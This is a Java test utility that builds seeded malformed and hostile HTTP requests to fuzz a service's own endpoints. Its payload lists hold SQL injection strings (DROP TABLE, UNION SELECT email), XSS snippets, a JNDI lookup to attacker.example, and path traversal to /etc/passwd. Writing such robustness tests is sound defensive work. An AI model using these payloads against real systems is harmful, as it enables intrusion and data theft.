package dev.funnel.testing;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Function;

/**
 * Seeded hostile requests against one service's endpoints: each takes a valid request and breaks it one way
 * ({@link Hostility}): a wrong type, a huge string, JSON nested 10,000 deep, bytes that are not UTF-8, a body cut
 * short, a wrong content type, SQL and script injected into every string, nulls, numbers out of any range,
 * unknown enum values, dates and times at the ends of what Java can parse, ids that are not UUIDs, hostile query parameters and headers. Some are left valid, so
 * a test can check that what was accepted, and only that, was stored. The same seed gives the same requests.
 */
public final class HostileRequests {

    /** What is wrong with a request. */
    public enum Hostility {
        VALID, WRONG_TYPE, HUGE_STRING, DEEP_NESTING, BAD_UTF8, TRUNCATED, WRONG_CONTENT_TYPE, INJECTION, NULL_VALUE,
        NULL_BODY, EMPTY_BODY, BAD_NUMBER, UNKNOWN_ENUM, EXTREME_TIME, NOT_AN_OBJECT, BAD_PATH_ID, BAD_QUERY,
        HOSTILE_HEADER
    }

    /**
     * One endpoint to attack.
     *
     * @param path      with {@code {id}} where an id goes
     * @param validBody a valid body, made with the generator's random; null for an endpoint without one
     * @param validId   an id that exists; null for a path without {@code {id}}
     * @param query     the endpoint's query parameters, to be given hostile values
     */
    public record Endpoint(String name, String method, String path, Function<Random, JsonNode> validBody,
                           Function<Random, String> validId, List<String> query) {

        boolean hasBody() {
            return validBody != null;
        }
    }

    /** One request to send; {@code body} is null for none, {@code contentType} null for no such header. */
    public record Request(Endpoint endpoint, Hostility hostility, String method, String path, String contentType,
                          Map<String, String> headers, byte[] body) {

        @Override
        public String toString() {
            String shown = body == null ? "" : new String(body, 0, Math.min(body.length, 200), StandardCharsets.UTF_8);
            return hostility + " " + method + " " + path + " [" + contentType + "] " + headers + " " + shown;
        }
    }

    /** Strings that would do harm if they reached SQL, a page or a log unescaped. */
    public static final List<String> INJECTIONS = List.of("' OR 1=1 --", "\"; DROP TABLE lead; --",
            "<script>alert(1)</script>", "Robert'); DROP TABLE campaign;--", "1; SELECT pg_sleep(5)",
            "${jndi:ldap://attacker.example/a}", "%s%s%s%n", "../../../../etc/passwd", "' UNION SELECT email FROM lead --",
            "{{7*7}}", "\u0000\u0001\u001f", "\\u0000", "admin'--", "<img src=x onerror=alert(1)>", "");
    private static final List<String> NOT_UUIDS = List.of("not-a-uuid", "' OR 1=1 --", "1", "-1",
            "00000000-0000-0000-0000-00000000000G", "{5d1f0c8e-2a47-4f3b-9b8e-1c6a2f4e7d90}", "x".repeat(300),
            "5d1f0c8e2a474f3b9b8e1c6a2f4e7d90ff", "<script>", "..%2F..%2Fetc", "%00", "null", " ", "\u00e9\u00e8");
    private static final List<String> RAW_NUMBERS = List.of("-1", "0", "-9223372036854775809", "9223372036854775808",
            "1e400", "-1e400", "1e999999999", "1E-999999999", "0.0000000001", "-0",
            "123456789012345678901234567890123456789012345678901234567890", "NaN", "Infinity", "-Infinity", "0x10",
            "1.5", "99999999999999999999.999999999", "2147483648", "-2147483649");
    private static final List<String> NOT_ENUMS = List.of("NOT_A_VALUE", "qualified", "", " SEARCH ", "\u00c6\u00d8\u00c5",
            "WON; DROP TABLE lead", "0", "null");
    /** Dates and times Java parses but a database may not hold, and some it does not parse at all. */
    private static final List<String> EXTREME_TIMES = List.of("+999999999-12-31T23:59:59Z", "-999999999-01-01T00:00:00Z",
            "+294277-01-01T00:00:00Z", "-4714-11-23T00:00:00Z", "0000-01-01T00:00:00Z", "+999999999-12-31",
            "-999999999-01-01", "+5874898-01-01", "0000-00-00", "2026-02-30", "2026-03-02T25:61:00Z", "1970-01-01",
            "9999-12-31T23:59:59.999999999Z", "2026-03-02T09:00:00+18:00", "2026-03-02T09:00:00");
    private static final List<String> CONTENT_TYPES = Arrays.asList("text/plain", "application/xml",
            "application/x-www-form-urlencoded", "multipart/form-data; boundary=xyz", "application/octet-stream",
            "application/json-patch+json", "*/*", "text/html; charset=utf-8", "application/json; charset=ebcdic", null);
    private static final List<byte[]> BAD_UTF8 = List.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF},
            new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xC0, (byte) 0xAF},
            new byte[] {(byte) 0xE2, (byte) 0x82}, new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80},
            new byte[] {(byte) 0xFE, (byte) 0xFF, 0x00});
    private static final String RAW = "\u0001raw\u0001";
    private static final int DEEP = 10_000;

    private final Random random;
    private final ObjectMapper json = new ObjectMapper();

    public HostileRequests(long seed) {
        this.random = new Random(seed);
    }

    /** The generator's random, for tests that make their valid bodies and ids with it. */
    public Random random() {
        return random;
    }

    /** A request to the endpoint broken one way; about one in twenty is left valid. */
    public Request next(Endpoint endpoint) {
        List<Hostility> fitting = new ArrayList<>();
        for (Hostility hostility : Hostility.values()) {
            if (fits(hostility, endpoint)) {
                fitting.add(hostility);
            }
        }
        Hostility chosen = random.nextInt(20) == 0 ? Hostility.VALID : fitting.get(random.nextInt(fitting.size()));
        return make(endpoint, chosen);
    }

    /** A valid request to the endpoint. */
    public Request valid(Endpoint endpoint) {
        return make(endpoint, Hostility.VALID);
    }

    private static boolean fits(Hostility hostility, Endpoint endpoint) {
        return switch (hostility) {
            case VALID -> false; // chosen apart, at its own rate
            case BAD_PATH_ID -> endpoint.path().contains("{id}");
            case BAD_QUERY -> !endpoint.query().isEmpty();
            case HOSTILE_HEADER -> true;
            default -> endpoint.hasBody();
        };
    }

    private Request make(Endpoint endpoint, Hostility hostility) {
        String id = endpoint.validId() == null ? null : endpoint.validId().apply(random);
        JsonNode body = endpoint.hasBody() ? endpoint.validBody().apply(random) : null;
        String contentType = body == null ? null : "application/json";
        Map<String, String> headers = new LinkedHashMap<>();
        String query = "";
        byte[] bytes = body == null ? null : write(body);
        switch (hostility) {
            case VALID -> {
            }
            case WRONG_TYPE -> bytes = replaceSome(body, pick(List.of(json.getNodeFactory().numberNode(42),
                    TextNode.valueOf("forty-two"), json.getNodeFactory().booleanNode(true), json.createArrayNode(),
                    json.createObjectNode(), json.createArrayNode().add(1).add("two"),
                    json.createObjectNode().put("nested", 1))));
            case HUGE_STRING -> bytes = replaceSome(body, TextNode.valueOf(huge()));
            case DEEP_NESTING -> bytes = random.nextBoolean() ? deep()
                    : spliced(body, ("[".repeat(DEEP) + "]".repeat(DEEP)).getBytes(StandardCharsets.US_ASCII));
            case BAD_UTF8 -> {
                ByteArrayOutputStream text = new ByteArrayOutputStream();
                text.writeBytes("\"caf".getBytes(StandardCharsets.US_ASCII));
                text.writeBytes(pick(BAD_UTF8));
                text.writeBytes("e\"".getBytes(StandardCharsets.US_ASCII));
                bytes = spliced(body, text.toByteArray());
            }
            case TRUNCATED -> bytes = Arrays.copyOf(bytes, 1 + random.nextInt(Math.max(1, bytes.length - 1)));
            case WRONG_CONTENT_TYPE -> contentType = pick(CONTENT_TYPES);
            case INJECTION -> bytes = write(injected(body));
            case NULL_VALUE -> bytes = replaceSome(body, json.getNodeFactory().nullNode());
            case NULL_BODY -> bytes = "null".getBytes(StandardCharsets.US_ASCII);
            case EMPTY_BODY -> bytes = new byte[0];
            case BAD_NUMBER -> bytes = splicedNumber(body, pick(RAW_NUMBERS));
            case UNKNOWN_ENUM -> bytes = replaceEnum(body, pick(NOT_ENUMS));
            case EXTREME_TIME -> bytes = replaceTime(body, pick(EXTREME_TIMES));
            case NOT_AN_OBJECT -> bytes = pick(List.of(body.isArray() ? "{\"items\": []}" : "[]", "\"a lead\"", "42",
                    "true", "[[]]", "[null]", "{}", "[{}]")).getBytes(StandardCharsets.UTF_8);
            case BAD_PATH_ID -> id = pick(NOT_UUIDS);
            case BAD_QUERY -> query = hostileQuery(endpoint.query());
            case HOSTILE_HEADER -> headers.put("Idempotency-Key", pick(List.of("", " ", "k".repeat(256),
                    "k".repeat(5_000), "' OR 1=1 --", "\"; DROP TABLE idempotent_request; --", "<script>")));
        }
        String path = id == null ? endpoint.path()
                : endpoint.path().replace("{id}", URLEncoder.encode(id, StandardCharsets.UTF_8).replace("+", "%20"));
        return new Request(endpoint, hostility, endpoint.method(), path + query, contentType, headers,
                endpoint.hasBody() || hostility == Hostility.EMPTY_BODY ? bytes : null);
    }

    /** Hostile values for some of the parameters; the line stays within the 4,096 characters HTTP servers take. */
    private String hostileQuery(List<String> names) {
        StringBuilder query = new StringBuilder();
        for (String name : names) {
            if (random.nextBoolean()) {
                String value = pick(List.of(pick(INJECTIONS), pick(RAW_NUMBERS), pick(NOT_ENUMS), pick(NOT_UUIDS),
                        "x".repeat(500), "2026-13-45T99:99:99Z", pick(EXTREME_TIMES)));
                query.append(query.isEmpty() ? '?' : '&').append(name).append('=')
                        .append(URLEncoder.encode(value, StandardCharsets.UTF_8));
            }
        }
        return query.isEmpty() ? "?" + names.getFirst() + "=%FF%FE" : query.toString();
    }

    private String huge() {
        StringBuilder text = new StringBuilder(100_000 + 60_000);
        int length = 100_000 + random.nextInt(60_000);
        while (text.length() < length) {
            text.append(random.nextInt(50) == 0 ? "\u00e9 " : "lead");
        }
        return text.toString();
    }

    private byte[] deep() {
        String open = random.nextBoolean() ? "[" : "{\"a\":";
        String close = open.equals("[") ? "]" : "}";
        return (open.repeat(DEEP) + "1" + close.repeat(DEEP)).getBytes(StandardCharsets.US_ASCII);
    }

    /** Every string in the body, keys aside, replaced by an injection string; an injected key besides. */
    private JsonNode injected(JsonNode body) {
        JsonNode copy = body.deepCopy();
        for (Slot slot : slots(copy)) {
            if (slot.value().isTextual()) {
                slot.set(TextNode.valueOf(pick(INJECTIONS)));
            }
        }
        JsonNode target = copy.isArray() && !copy.isEmpty() ? copy.get(0) : copy;
        if (target instanceof ObjectNode object) {
            object.put(pick(INJECTIONS), pick(INJECTIONS));
        }
        return copy;
    }

    private byte[] replaceSome(JsonNode body, JsonNode value) {
        JsonNode copy = body.deepCopy();
        List<Slot> slots = slots(copy);
        if (slots.isEmpty()) {
            return write(value);
        }
        pick(slots).set(value);
        return write(copy);
    }

    private byte[] replaceEnum(JsonNode body, String value) {
        JsonNode copy = body.deepCopy();
        List<Slot> enums = slots(copy).stream()
                .filter(s -> s.value().isTextual() && s.value().asText().matches("[A-Z][A-Z_]+")).toList();
        Slot slot = pick(enums.isEmpty() ? slots(copy) : enums);
        slot.set(TextNode.valueOf(value));
        return write(copy);
    }

    private byte[] replaceTime(JsonNode body, String value) {
        JsonNode copy = body.deepCopy();
        List<Slot> times = slots(copy).stream()
                .filter(s -> s.value().isTextual() && s.value().asText().matches("[+-]?\\d{4,}-\\d\\d-\\d\\d.*")).toList();
        List<Slot> slots = times.isEmpty() ? slots(copy) : times;
        if (slots.isEmpty()) {
            return write(TextNode.valueOf(value));
        }
        pick(slots).set(TextNode.valueOf(value));
        return write(copy);
    }

    /** The body with one value (a number's, when it has one) replaced by raw text that may be no JSON at all. */
    private byte[] splicedNumber(JsonNode body, String raw) {
        byte[] bytes = raw.getBytes(StandardCharsets.US_ASCII);
        JsonNode copy = body.deepCopy();
        List<Slot> numbers = slots(copy).stream().filter(s -> s.value().isNumber()).toList();
        if (numbers.isEmpty()) {
            return spliced(body, bytes);
        }
        pick(numbers).set(TextNode.valueOf(RAW));
        return splice(write(copy), bytes);
    }

    /** The body with one value replaced by raw bytes. */
    private byte[] spliced(JsonNode body, byte[] raw) {
        JsonNode copy = body.deepCopy();
        List<Slot> slots = slots(copy);
        if (slots.isEmpty()) {
            return raw;
        }
        pick(slots).set(TextNode.valueOf(RAW));
        return splice(write(copy), raw);
    }

    private byte[] splice(byte[] written, byte[] raw) {
        byte[] marker = write(TextNode.valueOf(RAW));
        int at = indexOf(written, marker);
        ByteArrayOutputStream out = new ByteArrayOutputStream(written.length + raw.length);
        out.write(written, 0, at);
        out.writeBytes(raw);
        out.write(written, at + marker.length, written.length - at - marker.length);
        return out.toByteArray();
    }

    private static int indexOf(byte[] haystack, byte[] needle) {
        outer:
        for (int i = 0; i + needle.length <= haystack.length; i++) {
            for (int j = 0; j < needle.length; j++) {
                if (haystack[i + j] != needle[j]) {
                    continue outer;
                }
            }
            return i;
        }
        throw new IllegalStateException("the marker is not in the body");
    }

    /** A place in the body that holds a value: a field of an object or an element of an array. */
    private record Slot(JsonNode container, String field, int index) {
        JsonNode value() {
            return field != null ? container.get(field) : container.get(index);
        }

        void set(JsonNode value) {
            if (field != null) {
                ((ObjectNode) container).set(field, value);
            } else {
                ((ArrayNode) container).set(index, value);
            }
        }
    }

    private static List<Slot> slots(JsonNode node) {
        List<Slot> slots = new ArrayList<>();
        if (node.isObject()) {
            for (String field : iterable(node.fieldNames())) {
                slots.add(new Slot(node, field, -1));
                slots.addAll(slots(node.get(field)));
            }
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                slots.add(new Slot(node, null, i));
                slots.addAll(slots(node.get(i)));
            }
        }
        return slots;
    }

    private static List<String> iterable(java.util.Iterator<String> names) {
        List<String> all = new ArrayList<>();
        names.forEachRemaining(all::add);
        return all;
    }

    private <T> T pick(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    private byte[] write(JsonNode node) {
        try {
            return json.writeValueAsBytes(node);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    /** A fresh object node, for tests building valid bodies. */
    public static ObjectNode object() {
        return JsonNodeFactory.instance.objectNode();
    }

    /** A fresh array node, for tests building valid bodies. */
    public static ArrayNode array() {
        return JsonNodeFactory.instance.arrayNode();
    }
}
